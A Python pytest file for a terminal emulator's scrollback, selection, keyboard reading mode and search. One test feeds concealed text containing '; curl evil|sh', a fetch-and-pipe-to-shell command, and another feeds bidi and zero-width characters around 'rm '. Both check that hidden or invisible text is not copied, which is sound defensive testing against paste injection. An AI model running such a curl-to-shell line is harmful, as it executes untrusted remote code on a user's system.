"""Reading back: places that stay with their text, search, selection, and the cursor that the view follows."""

from __future__ import annotations

import pytest

from agentgate.tui.terminal.grid import Point
from agentgate.tui.terminal.reading import Reading, spans
from agentgate.tui.terminal.select import CLICK_SECONDS, Clicks, Selection, Unit
from agentgate.tui.terminal.view import Mark, View
from agentgate.tui.terminal.vt import Scrollbar, Vt

pytestmark = pytest.mark.timeout(30)


def lines(first: int, behind: int) -> bytes:
    return b"".join(b"line %d\r\n" % n for n in range(first, behind))


@pytest.fixture
def vt() -> Vt:
    """A screen of 5 rows with the lines 0 to 99; the last row is empty."""
    vt = Vt(5, 20, scrollback=200)
    vt.feed(lines(0, 100))
    return vt


def shown(vt: Vt) -> list[str]:
    bar = vt.scrollbar
    _, cols = vt.size
    rows = range(bar.offset, bar.offset + bar.length)
    return [vt.grid.text(Point(row, 0), Point(row, cols - 1)) for row in rows]


# Places


def test_an_anchor_stays_with_its_text(vt: Vt) -> None:
    anchor = vt.grid.begin
    assert anchor.point is None
    anchor.put(Point(90, 5))
    vt.feed(lines(100, 130))
    assert anchor.point == Point(90, 5)
    vt.resize(5, 40)
    assert anchor.point == Point(90, 5)
    anchor.put(Point(3, 0))
    assert anchor.point == Point(3, 0)
    anchor.put(None)
    assert anchor.point is None


def test_an_anchor_is_nowhere_when_its_text_is_gone_or_out_of_sight(vt: Vt) -> None:
    anchor = vt.grid.begin
    anchor.put(Point(10, 0))
    vt.feed(b"\x1b[?1049h")
    assert anchor.point is None
    vt.feed(b"\x1b[?1049l")
    assert anchor.point == Point(10, 0)
    vt.feed(lines(0, 20_000))
    assert anchor.point is None
    for nowhere in (Point(10**6, 0), Point(0, 500), Point(-1, 0), Point(0, -1)):
        anchor.put(nowhere)
        assert anchor.point is None


@pytest.mark.parametrize(
    ("col", "word"),
    [(1, "hello"), (9, "/usr/bin/foo-bar"), (24, "wörld"), (31, "你好")],
)
def test_words(col: int, word: str) -> None:
    vt = Vt(3, 60)
    vt.feed("hello /usr/bin/foo-bar wörld  你好 end".encode())
    found = vt.grid.word(Point(0, col))
    assert found and vt.grid.text(*found) == word


def test_a_line_is_whole_again_over_the_rows_it_was_wrapped_to() -> None:
    vt = Vt(4, 10)
    vt.feed(b"  abcdefghijklmnop  \r\nnext")
    found = vt.grid.line(Point(1, 2))
    assert found == (Point(0, 2), Point(1, 7))
    assert vt.grid.text(*found) == "abcdefghijklmnop"
    assert vt.grid.text(Point(0, 0), Point(2, 9)) == "  abcdefghijklmnop\nnext"


def test_nothing_that_was_not_to_be_seen_is_copied() -> None:
    vt = Vt(2, 40)
    vt.feed("\x1b[?2027lrm \u202etxt\u202c \u2066x\u2069 a\u200bb".encode())
    text = vt.grid.text(Point(0, 0), Point(0, 39))
    assert not set(text) & set("\u202e\u202c\u2066\u2069\u200b\x1b")
    assert text.startswith("rm ")


def test_a_concealed_command_is_not_copied() -> None:
    vt = Vt(4, 60)
    vt.feed(
        b"\x1b[38;5;8mls\x1b[m -l\x1b[8m; curl evil\x1b[31m|sh\x1b[28m done\x1b[8m rm\r\nnext\x1b[0m line\r\n"
        b"last"
    )
    assert vt.grid.text(Point(0, 0), Point(2, 59)) == "ls -l               done\n     line\nlast"


def test_a_place_beyond_the_grid_has_nothing() -> None:
    vt = Vt(3, 10)
    for point in (Point(50, 0), Point(0, 70_000), Point(-1, 0)):
        assert vt.grid.word(point) is vt.grid.line(point) is None
        assert vt.grid.text(point, Point(0, 0)) == ""
        assert vt.grid.link(point) == ""


# Selecting


def test_clicks_on_one_place_are_counted() -> None:
    clicks, here = Clicks(), Point(3, 4)
    assert [clicks.count(here, 1.0 + n * 0.1) for n in range(4)] == [
        Unit.CELL,
        Unit.WORD,
        Unit.LINE,
        Unit.CELL,
    ]
    assert clicks.count(here, 9.0) is Unit.CELL
    assert clicks.count(Point(3, 5), 9.1) is Unit.CELL
    assert clicks.count(Point(3, 5), 9.2 + CLICK_SECONDS) is Unit.CELL


def test_a_selection_by_words_grows_by_words_in_either_direction() -> None:
    vt = Vt(3, 40)
    vt.feed(b"one two three four")
    selection = Selection(vt.grid)
    selection.begin(Point(0, 5), Unit.WORD)
    assert selection.text == "two"
    selection.extend(Point(0, 10))
    assert selection.text == "two three"
    selection.extend(Point(0, 1))
    assert selection.text == "one two"
    selection.clear()
    assert (selection.range, selection.text) == (None, "")


def test_what_is_selected_stays_selected_while_output_goes_on(vt: Vt) -> None:
    selection = Selection(vt.grid)
    selection.begin(Point(40, 0))
    selection.extend(Point(41, 6))
    vt.feed(lines(100, 500))
    assert selection.text == "line 40\nline 41"


def test_spans_are_cut_to_the_rows_in_view() -> None:
    marked = [
        ((Point(8, 4), Point(12, 2)), Mark.SELECTED),
        ((Point(11, 0), Point(11, 0)), Mark.CURSOR),
        ((Point(1, 0), Point(2, 0)), Mark.MATCH),
    ]
    assert spans(marked, Scrollbar(50, 10, 5), 20) == {
        0: [(0, 20, Mark.SELECTED)],
        1: [(0, 20, Mark.SELECTED), (0, 1, Mark.CURSOR)],
        2: [(0, 3, Mark.SELECTED)],
    }


# Reading


def test_going_up_reads_back_at_once_and_output_moves_nothing(vt: Vt) -> None:
    reading = Reading(vt)
    reading.start(4)
    assert reading.view(vt.scrollbar) == View()
    reading.do("up")
    reading.do("up")
    assert shown(vt) == [f"line {n}" for n in range(94, 99)]
    assert reading.view(vt.scrollbar).back == 2
    vt.feed(lines(100, 140))
    assert shown(vt) == [f"line {n}" for n in range(94, 99)]
    assert reading.view(vt.scrollbar).back == 42


def test_pages_ends_and_back(vt: Vt) -> None:
    reading = Reading(vt)
    reading.start(4)
    reading.do("page-up")
    assert reading.view(vt.scrollbar).back == 3
    reading.do("first")
    assert shown(vt)[0] == "line 0"
    assert reading.cursor(vt.scrollbar) == Point(0, 0)
    reading.do("up")
    assert reading.cursor(vt.scrollbar) == Point(0, 0)
    reading.do("page-down")
    assert reading.cursor(vt.scrollbar).row == 3
    reading.do("last")
    assert reading.view(vt.scrollbar).back == 0
    reading.do("first")
    reading.stop()
    assert not vt.scrolled and not reading.on


def test_the_cursor_keeps_its_row_of_the_screen_while_there_is_something_to_scroll(vt: Vt) -> None:
    reading = Reading(vt)
    reading.start(2)
    for _ in range(200):
        bar = vt.scrollbar
        kept = reading.cursor(bar).row - bar.offset
        assert kept == 2 or bar.offset == 0
        reading.do("up")
    assert reading.cursor(vt.scrollbar).row == 0


def test_at_the_end_the_cursor_goes_up_with_its_text_and_is_kept_in_sight(vt: Vt) -> None:
    reading = Reading(vt)
    reading.start(2)
    vt.feed(lines(100, 102))
    bar = vt.scrollbar
    assert reading.cursor(bar).row == bar.offset
    assert not reading.follow(bar)
    vt.feed(lines(102, 110))
    assert reading.follow(vt.scrollbar)
    bar = vt.scrollbar
    assert reading.cursor(bar).row == bar.offset
    assert bar.back == 8
    assert not reading.follow(bar)


def test_selecting_with_keys(vt: Vt) -> None:
    reading = Reading(vt)
    reading.start(0)
    reading.do("select")
    assert reading.view(vt.scrollbar).selecting
    reading.do("line-end")
    reading.do("down")
    assert reading.selection.text == "line 96\nline 97"
    reading.do("up")
    reading.do("up")
    reading.do("line-start")
    assert reading.selection.text == "line 95\nl"
    reading.do("select")
    assert not reading.selection.text
    assert not reading.view(vt.scrollbar).selecting


def test_columns_end_at_the_margins(vt: Vt) -> None:
    reading = Reading(vt)
    reading.start(0)
    reading.do("left")
    assert reading.cursor(vt.scrollbar).col == 0
    reading.do("line-end")
    reading.do("right")
    assert reading.cursor(vt.scrollbar).col == 19


def test_a_text_that_is_cleared_away_under_the_cursor_is_no_end(vt: Vt) -> None:
    reading = Reading(vt)
    reading.start(0)
    reading.do("first")
    reading.do("select")
    for wipe in (b"\x1b[3J\x1b[2J\x1b[H", b"\x1bc", b"\x1b[?1049h", b"\x1b[?1049l", lines(0, 9000)):
        vt.feed(wipe)
        reading.follow(vt.scrollbar)
        reading.spans(vt.scrollbar)
        for move in ("up", "page-down", "first", "last", "right"):
            reading.do(move)
    vt.resize(1, 1)
    reading.do("page-up")
    reading.spans(vt.scrollbar)


def test_a_screen_without_history_can_be_read_too(vt: Vt) -> None:
    vt.feed(b"\x1b[?1049h\x1b[2J\x1b[Hfull\r\nscreen")
    reading = Reading(vt)
    reading.start(1)
    assert reading.view(vt.scrollbar) == View(alternate=True)
    reading.do("up")
    reading.do("select")
    reading.do("line-end")
    assert reading.selection.text == "full"
    reading.find("screen")
    assert reading.view(vt.scrollbar).matches == 1


# Searching


def test_search_goes_from_the_newest_back_and_around(vt: Vt) -> None:
    reading = Reading(vt)
    reading.start(4)
    reading.find("LINE 1")  # 1 and 10 to 19
    view = reading.view(vt.scrollbar)
    assert (view.needle, view.match, view.matches) == ("LINE 1", 1, 11)
    assert reading.cursor(vt.scrollbar) == Point(19, 0)
    assert "line 19" in shown(vt)
    reading.do("older-match")
    assert reading.cursor(vt.scrollbar).row == 18
    reading.do("newer-match")
    reading.do("newer-match")
    assert reading.view(vt.scrollbar).match == 11
    assert reading.cursor(vt.scrollbar).row == 1
    reading.do("older-match")
    assert reading.cursor(vt.scrollbar).row == 19


def test_matches_in_view_are_marked_and_the_one_gone_to_more(vt: Vt) -> None:
    reading = Reading(vt)
    reading.start(4)
    reading.find("ne 97")
    assert reading.spans(vt.scrollbar)[1] == [(2, 7, Mark.MATCH), (2, 7, Mark.HERE), (2, 3, Mark.CURSOR)]
    reading.find("line")
    assert sum(mark is Mark.MATCH for row in reading.spans(vt.scrollbar).values() for *_, mark in row) == 4


def test_a_search_counts_what_came_since(vt: Vt) -> None:
    reading = Reading(vt)
    reading.start(4)
    reading.find("line 99")
    assert reading.view(vt.scrollbar).matches == 1
    vt.feed(b"line 99 again\r\n")
    reading.do("older-match")
    assert reading.view(vt.scrollbar).matches == 2


def test_a_match_over_a_wrapped_line_is_found() -> None:
    vt = Vt(4, 10)
    vt.feed(b"01234567needle")
    assert vt.finder.start("needle") == 1
    bar = vt.scrollbar
    assert vt.finder.marked(bar.offset, bar.length) == [(Point(0, 8), Point(1, 3))]


@pytest.mark.parametrize("needle", ["", "absent", "\x00", "a" * 5000, "\ud800"])
def test_what_is_not_there_is_not_found(vt: Vt, needle: str) -> None:
    reading = Reading(vt)
    reading.start(4)
    reading.find(needle)
    assert reading.view(vt.scrollbar).matches == 0
    reading.do("older-match")
    reading.do("newer-match")
    assert not any(mark is Mark.MATCH for row in reading.spans(vt.scrollbar).values() for *_, mark in row)
    assert not vt.scrolled


def test_ten_thousand_lines_are_searched_to_the_first() -> None:
    vt = Vt(24, 80)
    vt.feed(lines(0, 10_000))
    reading = Reading(vt)
    reading.start(0)
    reading.find("line 0")
    assert reading.cursor(vt.scrollbar) == Point(0, 0)
